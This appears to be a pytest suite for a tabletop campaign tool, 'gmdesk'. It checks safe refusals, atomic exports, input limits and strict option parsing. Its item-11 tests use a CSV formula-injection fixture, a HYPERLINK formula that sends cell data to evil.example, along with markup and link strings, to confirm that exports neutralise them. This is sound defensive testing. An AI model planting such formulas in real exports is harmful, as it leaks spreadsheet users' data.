"""Issue 10 ("Trust at the table"), the files: every command run as the GM runs it, in a subprocess, on
campaigns that are damaged, read-only, on a full disk, newer, or the target of a careless ``--out``.
Each file keeps its bytes unless the GM asked for a change; each refusal is exit 2 and one line."""

from __future__ import annotations

import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from gmdesk.store.schema import CURRENT_VERSION

from mount_helpers import fill, read_only_view, small_disk
from store_helpers import entry, sha256, worker_env
from gmdesk.campaign.model import CampaignInfo
from gmdesk.store import CampaignStore


def gmdesk(*argv: object, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "gmdesk", *map(str, argv)], env=worker_env(), capture_output=True,
                          text=True, timeout=timeout)


def refused(p: subprocess.CompletedProcess, *words: str) -> str:
    """Exit 2, one line on stderr holding ``words``, no traceback; returns the line."""
    assert p.returncode == 2, (p.returncode, p.stdout[-500:], p.stderr[-2000:])
    assert "Traceback" not in p.stderr and p.stderr.count("\n") == 1, p.stderr
    for word in words:
        assert word in p.stderr, (word, p.stderr)
    return p.stderr


def listing(folder: Path) -> list[str]:
    return sorted(os.listdir(folder))


def new_campaign(path: Path, rolls: int = 30, label: str = "Perception") -> Path:
    with CampaignStore.create(path, CampaignInfo("Les Oubliés", "pf2")) as store:
        store.log.append_many([entry(i, label=label) for i in range(rolls)])
    return path


def sheets_file(folder: Path) -> Path:
    sheets = folder / "party.json"
    demo = folder / "sheets-demo.gmdesk"
    assert gmdesk("new", demo, "--system", "pf2", "--demo").returncode == 0
    assert gmdesk("sheets", "export", demo, sheets).returncode == 0
    demo.unlink()
    return sheets


# -- item 1: nothing is written onto a campaign or a database -------------------------------------

def test_no_command_writes_onto_a_campaign_or_any_database(tmp_path: Path) -> None:
    campaign = new_campaign(tmp_path / "C.gmdesk")
    other = new_campaign(tmp_path / "other.gmdesk")
    foreign = tmp_path / "bookmarks.sqlite"
    c = sqlite3.connect(foreign)
    c.execute("CREATE TABLE t (x)")
    c.commit()
    c.close()
    named_like_a_campaign = tmp_path / "notes.gmdesk"  # would not exist: still no CSV under that name
    files = (campaign, other, foreign)
    before = {p: sha256(p) for p in files}
    siblings = listing(tmp_path)
    targets = (campaign, other, foreign, Path(f"{campaign}-wal"), named_like_a_campaign)
    for target in targets:
        for fmt in ("csv", "json", "md", "html"):
            refused(gmdesk("export", campaign, "--format", fmt, "--out", target), str(target.name))
        refused(gmdesk("sheets", "export", campaign, target), str(target.name))
    assert {p: sha256(p) for p in files} == before
    assert listing(tmp_path) == siblings  # no temp file, no -wal left, nothing named notes.gmdesk
    with CampaignStore.open(campaign) as store:
        assert store.log.count() == 30


def test_an_interrupted_export_leaves_the_old_file_whole(tmp_path: Path) -> None:
    """Killed at any moment, ``export --out`` leaves the previous export or the new one, whole."""
    campaign = new_campaign(tmp_path / "big.gmdesk", rolls=60_000, label="x" * 200)
    out = tmp_path / "log.csv"
    out.write_text("the export of last week\n", encoding="utf-8")
    caught_mid_way = False
    for _ in range(5):
        p = subprocess.Popen([sys.executable, "-m", "gmdesk", "export", str(campaign), "--format", "csv", "--out",
                              str(out)], env=worker_env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and p.poll() is None:
            temps = [n for n in os.listdir(tmp_path) if n.startswith(".log.csv.")]
            if temps and (tmp_path / temps[0]).exists() and (tmp_path / temps[0]).stat().st_size > 0:
                p.send_signal(signal.SIGKILL)
                caught_mid_way = True
                break
            time.sleep(0.002)
        p.wait()
        text = out.read_text(encoding="utf-8")
        assert text == "the export of last week\n" or (text.startswith("#,Time,") and text.count("\n") == 60_001)
        if caught_mid_way:
            assert text == "the export of last week\n"
            break
    assert caught_mid_way, "the export always finished before it could be killed"


# -- item 5: a damaged campaign is never written --------------------------------------------------

def damage(path: Path) -> None:
    """Scribble over a page in the middle of the file (the roll log's pages), not the header."""
    data = bytearray(path.read_bytes())
    middle = len(data) // 2 // 4096 * 4096
    data[middle:middle + 4096] = os.urandom(4096)
    path.write_bytes(bytes(data))


def test_a_damaged_campaign_is_refused_by_every_command_and_never_written(tmp_path: Path) -> None:
    campaign = new_campaign(tmp_path / "damaged.gmdesk", rolls=400, label="y" * 300)
    damage(campaign)
    sheets = sheets_file(tmp_path)
    before, siblings = sha256(campaign), listing(tmp_path)
    check = gmdesk("check", campaign)
    assert check.returncode == 1 and "damaged" in check.stderr
    for argv in (("roll", "pf2", "--mod", "3", "--dc", "15", "--log", campaign),
                 ("roll", "pf2", "--mod", "3", "--dc", "15", "--count", "50", "--log", campaign),
                 ("export", campaign, "--format", "csv"),
                 ("sheets", "import", campaign, sheets),
                 ("sheets", "export", campaign)):
        p = refused(gmdesk(*argv), "damaged", f"gmdesk check {campaign}")
        assert p.count(str(campaign)) >= 1
    assert sha256(campaign) == before
    assert listing(tmp_path) == siblings  # not even a -wal or -shm beside it


def test_damage_met_after_the_open_stops_every_write(tmp_path: Path, monkeypatch) -> None:
    """A long log is checked in part at open (soundness): damage met later, while reading an old page,
    turns the store read-only there and then."""
    from gmdesk.store import StoreError, soundness

    campaign = new_campaign(tmp_path / "long.gmdesk", rolls=400, label="y" * 300)
    damage(campaign)
    before = sha256(campaign)
    monkeypatch.setattr(soundness, "FULL_CHECK_BYTES", 0)  # as if it were a million-roll campaign
    monkeypatch.setattr(soundness, "INTEGRITY_BYTES", 0)
    heard = []
    with CampaignStore.open(campaign) as store:
        assert not store.read_only  # the open-time checks did not reach the damaged page
        store.on_damage(heard.append)
        with pytest.raises(StoreError) as err:
            list(store.log.iter())
        assert err.value.kind == "damaged"
        assert store.read_only and store.read_only_reason == "damaged" and len(heard) == 1
        with pytest.raises(StoreError) as err:
            store.log.append(entry(1000))
        assert err.value.kind == "damaged" and "gmdesk check" in str(err.value)
    assert sha256(campaign) == before


def test_a_repaired_copy_goes_into_a_new_file_only(tmp_path: Path) -> None:
    from gmdesk.store import CampaignFileError
    from gmdesk.store.checkup import check_file
    from gmdesk.store.repair import save_repaired_copy

    campaign = new_campaign(tmp_path / "damaged.gmdesk", rolls=400, label="y" * 300)
    damage(campaign)
    taken = new_campaign(tmp_path / "taken.gmdesk")
    before = {p: sha256(p) for p in (campaign, taken)}
    with pytest.raises(CampaignFileError) as err:
        save_repaired_copy(campaign, taken)
    assert err.value.kind == "exists"
    foreign = tmp_path / "foreign.sqlite"
    sqlite3.connect(foreign).execute("CREATE TABLE t (x)").connection.close()
    with pytest.raises(CampaignFileError) as err:
        save_repaired_copy(foreign, tmp_path / "nope.gmdesk")
    assert err.value.kind == "not_campaign" and not (tmp_path / "nope.gmdesk").exists()
    report = save_repaired_copy(campaign, tmp_path / "fixed.gmdesk")
    checked = check_file(tmp_path / "fixed.gmdesk")
    assert checked.status == 0 and checked.rolls == report.kept["roll_log"] and 300 < checked.rolls < 400
    assert report.rolls_lost + report.kept["roll_log"] == 400
    assert {p: sha256(p) for p in (campaign, taken)} == before


# -- item 6: a sound campaign in a read-only folder -----------------------------------------------

def test_a_read_only_folder_opens_read_only_everywhere(tmp_path: Path) -> None:
    source = tmp_path / "shared"
    source.mkdir()
    new_campaign(source / "c.gmdesk")
    sheets = sheets_file(tmp_path)
    before, siblings = sha256(source / "c.gmdesk"), listing(source)
    with read_only_view(source, tmp_path / "ro") as ro:
        campaign = ro / "c.gmdesk"
        p = gmdesk("check", campaign)
        assert p.returncode == 0 and "sound" in p.stdout and "30 rolls" in p.stdout, p.stderr
        p = gmdesk("export", campaign, "--format", "csv", "--include-secret")
        assert p.returncode == 0 and p.stdout.count("\n") == 31, p.stderr
        p = gmdesk("sheets", "export", campaign)
        assert p.returncode == 0 and '"characters": []' in p.stdout, p.stderr
        refused(gmdesk("roll", "pf2", "--mod", "3", "--dc", "15", "--log", campaign), "read-only")
        refused(gmdesk("sheets", "import", campaign, sheets), "read-only")
    assert sha256(source / "c.gmdesk") == before and listing(source) == siblings


# -- item 7: a full disk --------------------------------------------------------------------------

def test_a_full_disk_is_called_full_and_the_campaign_stays_sound(tmp_path: Path) -> None:
    sheets = sheets_file(tmp_path)
    with small_disk(tmp_path / "disk", "2m") as disk:
        campaign = new_campaign(disk / "c.gmdesk", rolls=50)
        export = disk / "log.csv"
        export.write_text("last week's export\n", encoding="utf-8")
        filler = fill(disk)
        before, siblings = sha256(campaign), listing(disk)
        p = gmdesk("check", campaign)
        assert p.returncode == 0 and "sound" in p.stdout, p.stderr  # full is not damaged
        p = gmdesk("export", campaign, "--format", "json", "--include-secret")
        assert p.returncode == 0 and p.stdout.count("\n") == 50, p.stderr
        assert gmdesk("sheets", "export", campaign).returncode == 0
        for argv in (("roll", "pf2", "--mod", "3", "--dc", "15", "--log", campaign),
                     ("sheets", "import", campaign, sheets), ("import", campaign, sheets),
                     ("export", campaign, "--format", "csv", "--out", export)):
            line = refused(gmdesk(*argv), "the disk is full")
            assert "input/output" not in line
        assert export.read_text(encoding="utf-8") == "last week's export\n"  # the old file, whole
        assert sha256(campaign) == before
        assert listing(disk) == siblings  # no -wal, -shm or temp file left behind
        filler.unlink()  # room again: the campaign carries on
        assert gmdesk("roll", "pf2", "--mod", "3", "--dc", "15", "--log", campaign).returncode == 0
        p = gmdesk("check", campaign)
        assert p.returncode == 0 and "51 rolls" in p.stdout, p.stderr


def test_reading_commands_leave_no_side_files(tmp_path: Path) -> None:
    campaign = new_campaign(tmp_path / "c.gmdesk")
    newer = new_campaign(tmp_path / "newer.gmdesk")
    c = sqlite3.connect(newer)
    c.execute("PRAGMA user_version = 7")
    c.commit()
    c.close()
    siblings = listing(tmp_path)
    assert gmdesk("sheets", "export", campaign).returncode == 0
    assert gmdesk("sheets", "export", campaign, tmp_path / "party.json").returncode == 0
    assert gmdesk("check", campaign).returncode == 0
    assert gmdesk("export", campaign, "--format", "md").returncode == 0
    refused(gmdesk("export", newer, "--format", "md"), "newer")
    refused(gmdesk("check", newer), "newer")
    assert listing(tmp_path) == sorted(siblings + ["party.json"])


# -- item 8: `check` reads, never writes ----------------------------------------------------------

KILLED_WRITER = """
import os, sys
from gmdesk.campaign.log import LogEntry
from gmdesk.store import CampaignStore
store = CampaignStore.open(sys.argv[1])
store._db.conn.execute("PRAGMA wal_autocheckpoint = 0")  # the rolls stay in the -wal
store.log.append_many([LogEntry(system="pf2", tier="success", actor="Kyra", label="late", check={}, dice=[],
                                breakdown=[], total=20, dc=15) for _ in range(7)])
os.kill(os.getpid(), 9)  # killed before it could merge its -wal into the file
"""


@pytest.mark.parametrize("shm", ["kept", "lost"])
def test_check_never_merges_a_pending_write_ahead_log(tmp_path: Path, shm: str) -> None:
    campaign = new_campaign(tmp_path / "c.gmdesk")
    p = subprocess.run([sys.executable, "-c", KILLED_WRITER, str(campaign)], env=worker_env(), capture_output=True)
    assert p.returncode == -9
    wal = Path(f"{campaign}-wal")
    assert wal.stat().st_size > 0
    if shm == "lost":
        Path(f"{campaign}-shm").unlink()
    before, wal_before, siblings = sha256(campaign), sha256(wal), listing(tmp_path)
    p = gmdesk("check", campaign)
    assert p.returncode == 0 and "37 rolls" in p.stdout, p.stderr  # the -wal's rolls are read…
    assert sha256(campaign) == before and sha256(wal) == wal_before  # …and left where they were
    assert listing(tmp_path) == siblings
    with CampaignStore.open(campaign) as store:  # the next real open merges them, as SQLite does
        assert store.log.count() == 37


# -- item 9: a campaign from a newer gmdesk -------------------------------------------------------

def test_a_newer_campaign_is_refused_alike_by_every_command(tmp_path: Path) -> None:
    campaign = new_campaign(tmp_path / "c.gmdesk")
    c = sqlite3.connect(campaign)
    c.execute("PRAGMA user_version = 9")
    c.commit()
    c.close()
    sheets = sheets_file(tmp_path)
    before, siblings = sha256(campaign), listing(tmp_path)
    words = f"made by a newer gmdesk (format 9; this one reads up to {CURRENT_VERSION})"
    for argv in (("check", campaign), ("export", campaign, "--format", "csv"),
                 ("roll", "pf2", "--mod", "3", "--dc", "15", "--log", campaign),
                 ("sheets", "export", campaign), ("sheets", "import", campaign, sheets)):
        refused(gmdesk(*argv), words)
    assert sha256(campaign) == before and listing(tmp_path) == siblings


# -- item 11: no formula, markup or link passed through -------------------------------------------

HOSTILE = {
    "actor": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "label": "@SUM(A1)",
    "session": "+1+1",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    import csv
    import json

    campaign = tmp_path / "c.gmdesk"
    with CampaignStore.create(campaign, CampaignInfo("x", "pf2")) as store:
        store.log.append_many([entry(1, **HOSTILE, notes=["-2+3", "\tTab"]), entry(2, actor="\rCR", label="=1+1")])
    out = tmp_path / "log.csv"
    assert gmdesk("export", campaign, "--format", "csv", "--out", out).returncode == 0
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["Actor"] == "'" + HOSTILE["actor"] and rows[0]["Check"] == "'@SUM(A1)"
    assert rows[0]["Session"] == "'+1+1" and rows[0]["Notes"] == "'-2+3; \tTab"
    # "\rCR" is a name: no control character reaches it (issue 22 §7, ``campaign.names``).
    assert rows[1]["Actor"] == "CR" and rows[1]["Check"] == "'=1+1"
    for row in rows:  # no cell a spreadsheet would read as a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    assert rows[0]["Total"].isdigit() and rows[0]["DC"] == "18"  # numbers stay numbers
    p = gmdesk("export", campaign, "--format", "json")  # CSV only: the JSON holds the text as typed
    assert json.loads(p.stdout.splitlines()[0])["actor"] == HOSTILE["actor"]


MARKUP = ["www.evil.example", "https://evil.example/x", "mail me: gm@evil.example", "&amp; &lt;b&gt;", "<b>bold</b>",
          "*em* _em_ ~~gone~~", "[link](http://e)", "![img](x.png)", "`code`", "a | b", "# title", "\\*"]


def test_markdown_shows_every_text_as_typed() -> None:
    """Rendered by a CommonMark parser with GitHub's tables and strikethrough, an escaped text is
    one text node equal to what was typed: no link, emphasis, code, image, HTML or entity."""
    markdown_it = pytest.importorskip("markdown_it")
    from gmdesk.store.markdown_text import md_text

    md = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for text in MARKUP:
        cell = md_text(text)
        assert "www." not in cell and "https://" not in cell and "@" not in cell.replace("\\@", "")
        tokens = md.parseInline(cell)[0].children
        assert [t.type for t in tokens] == ["text"], (text, cell, tokens)
        assert tokens[0].content == text
        table = md.render(f"| a | b |\n|---|---|\n| {cell} | x |\n")
        assert table.count("<td>") == 2


def test_markdown_and_html_exports_hold_no_markup(tmp_path: Path) -> None:
    import html.parser

    campaign = tmp_path / "c.gmdesk"
    with CampaignStore.create(campaign, CampaignInfo("<b>&amp; www.evil.example", "pf2")) as store:
        store.log.append_many([entry(i, actor=text, label=text) for i, text in enumerate(MARKUP)])
    page = gmdesk("export", campaign, "--format", "md").stdout
    assert "www.evil" not in page and "https://" not in page and "<b>" not in page and "&amp; " not in page
    assert all(line.count(" | ") == 12 for line in page.splitlines() if line.startswith("| "))
    page = gmdesk("export", campaign, "--format", "html").stdout
    tags: list[str] = []

    class Tags(html.parser.HTMLParser):
        def handle_starttag(self, tag, attrs):
            tags.append(tag)

    Tags().feed(page)
    assert set(tags) <= {"html", "head", "meta", "title", "style", "body", "h1", "p", "table", "thead", "tbody",
                         "tr", "th", "td"}


# -- item 13: `roll --count` ---------------------------------------------------------------------

def test_roll_count_has_a_limit_in_its_help() -> None:
    assert "1,000,000" in gmdesk("roll", "--help").stdout
    refused(gmdesk("roll", "pf2", "--mod", "3", "--dc", "15", "--count", "1000001"), "--count", "1,000,000")
    refused(gmdesk("roll", "pf2", "--mod", "3", "--dc", "15", "--count", "10000000000"), "--count")
    refused(gmdesk("roll", "pf2", "--mod", "3", "--dc", "15", "--count", "0"), "--count")


# The process's own peak (VmHWM, KiB): ru_maxrss would start from the parent's size at fork.
PEAK = """
import re, sys
from gmdesk.__main__ import main
sys.stdout = open("/dev/null", "w")
status = main(sys.argv[1:])
peak = re.search(r"VmHWM:\\s+(\\d+) kB", open("/proc/self/status").read()).group(1)
print(peak, status, file=sys.stderr)
"""


def peak_kib(*argv: object) -> int:
    p = subprocess.run([sys.executable, "-c", PEAK, *map(str, argv)], env=worker_env(), capture_output=True,
                       text=True, timeout=300)
    rss, status = p.stderr.split()[-2:]
    assert status == "0", p.stderr
    return int(rss)


def test_roll_count_streams_with_flat_memory() -> None:
    small = peak_kib("roll", "pf2", "--mod", "3", "--dc", "15", "--count", "20000", "--json")
    large = peak_kib("roll", "pf2", "--mod", "3", "--dc", "15", "--count", "160000", "--json")
    assert large - small < 12 * 1024, (small, large)  # eight times the rolls, not eight times the memory


def test_roll_count_logs_in_batches_everything_it_prints(tmp_path: Path) -> None:
    import json

    campaign = new_campaign(tmp_path / "c.gmdesk", rolls=0)
    p = gmdesk("roll", "pf2", "--mod", "3", "--dc", "15", "--count", "25000", "--seed", "4", "--json",
               "--log", campaign, "--actor", "Kyra")
    assert p.returncode == 0, p.stderr
    printed = [json.loads(line)["dice"] for line in p.stdout.splitlines()]
    with CampaignStore.open(campaign) as store:
        logged = [e.faces for e in store.log.iter()]
    assert len(printed) == 25000 and logged == printed


# -- item 14: `sheets import` limits -------------------------------------------------------------

def test_sheets_import_has_limits_and_takes_a_byte_order_mark(tmp_path: Path) -> None:
    import json

    from gmdesk.store.sheet_files import MAX_CHARACTERS, MAX_DEPTH, MAX_FILE_BYTES, MAX_NAME

    campaign = new_campaign(tmp_path / "c.gmdesk", rolls=0)
    sheets = sheets_file(tmp_path)
    doc = json.loads(sheets.read_text(encoding="utf-8"))
    one = doc["characters"][0]

    def write(name: str, content: str | bytes) -> Path:
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
        return path

    deep = write("deep.json", "[" * 100_000 + "]" * 100_000)
    nested = write("nested.json", json.dumps({**doc, "characters": [{**one, "notes": [[[[["x"]]]]]}]})
                   .replace('"x"', "[" * MAX_DEPTH + "1" + "]" * MAX_DEPTH))
    big = write("big.json", json.dumps({**doc, "characters": [{**one, "name": "n" * (MAX_FILE_BYTES + 10)}]}))
    long_name = write("long.json", json.dumps({**doc, "characters": [{**one, "name": "n" * (MAX_NAME + 1)}]}))
    crowd = write("crowd.json", json.dumps({**doc, "characters": [one] * (MAX_CHARACTERS + 1)}))
    before = sha256(campaign)
    refused(gmdesk("sheets", "import", campaign, deep), "nested", str(MAX_DEPTH))
    refused(gmdesk("sheets", "import", campaign, nested), "nested")
    refused(gmdesk("sheets", "import", campaign, big), "MiB")
    refused(gmdesk("sheets", "import", campaign, long_name), "name", str(MAX_NAME))
    refused(gmdesk("sheets", "import", campaign, crowd), str(MAX_CHARACTERS))
    assert sha256(campaign) == before  # nothing written on a refusal
    bom = write("notepad.json", b"\xef\xbb\xbf" + sheets.read_bytes())  # as Windows Notepad saves it
    p = gmdesk("sheets", "import", campaign, bom)
    assert p.returncode == 0, p.stderr
    with CampaignStore.open(campaign) as store:
        assert [c.name for c in store.characters.list()] == [c["name"] for c in doc["characters"]]
    from gmdesk.cli.campaign import IMPORT_LIMITS
    from gmdesk.store.sheet_files import LIMITS

    assert IMPORT_LIMITS == LIMITS  # what --help says is what import does
    assert "2 MiB" in gmdesk("sheets", "--help").stdout
    full_party = write("party-max.json", json.dumps({**doc, "characters": [one] * MAX_CHARACTERS}))
    assert gmdesk("sheets", "import", campaign, full_party).returncode == 0  # the limit itself is fine


# -- item 15: the command line takes what it says, and only that ---------------------------------

@pytest.mark.parametrize("argv, named", [
    (("roll", "pf2", "--mod", "3", "--dc", "15", "--coun", "3"), "--coun"),
    (("odds", "pf2", "--mod", "3", "--dc", "15", "--js"), "--js"),
    (("odds", "pf2", "--mo", "3", "--dc", "15"), "--mo"),
    (("new", "{dir}/x.gmdesk", "--sys", "pf2"), "--sys"),
    (("export", "{dir}/c.gmdesk", "--form", "csv"), "--form"),
    (("odds", "pf2", "--mod", "٣", "--dc", "15"), "--mod"),
    (("odds", "pf2", "--mod", "3", "--dc", "１５"), "--dc"),
    (("roll", "anarchy", "--pool", "৬"), "--pool"),
    (("odds", "pf2", "--mod", "3", "--mod", "5", "--dc", "15"), "--mod"),
    (("roll", "pf2", "--mod", "3", "--dc", "15", "--count", "2", "--count", "9"), "--count"),
    (("export", "{dir}/c.gmdesk", "--format", "csv", "--format", "json"), "--format"),
    (("roll", "pf2", "--mod", "3", "--dc", "15", "--log", "{dir}/c.gmdesk", "--log", "{dir}/c.gmdesk"), "--log"),
])
def test_no_abbreviation_no_foreign_digit_no_repeated_option(tmp_path: Path, argv, named) -> None:
    new_campaign(tmp_path / "c.gmdesk")
    before = sha256(tmp_path / "c.gmdesk")
    refused(gmdesk(*(a.replace("{dir}", str(tmp_path)) for a in argv)), named)
    assert sha256(tmp_path / "c.gmdesk") == before and not (tmp_path / "x.gmdesk").exists()


def test_the_window_options_are_not_abbreviated_either(tmp_path: Path) -> None:
    shot = tmp_path / "x.png"
    p = subprocess.run([sys.executable, "-m", "gmdesk", "--screensh", str(shot)], capture_output=True, text=True,
                       timeout=120, env={**worker_env(), "QT_QPA_PLATFORM": "offscreen",
                                         "HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path / "config"),
                                         "XDG_DATA_HOME": str(tmp_path / "data")})
    assert p.returncode == 2 and "--screensh" in p.stderr and not shot.exists(), p.stderr
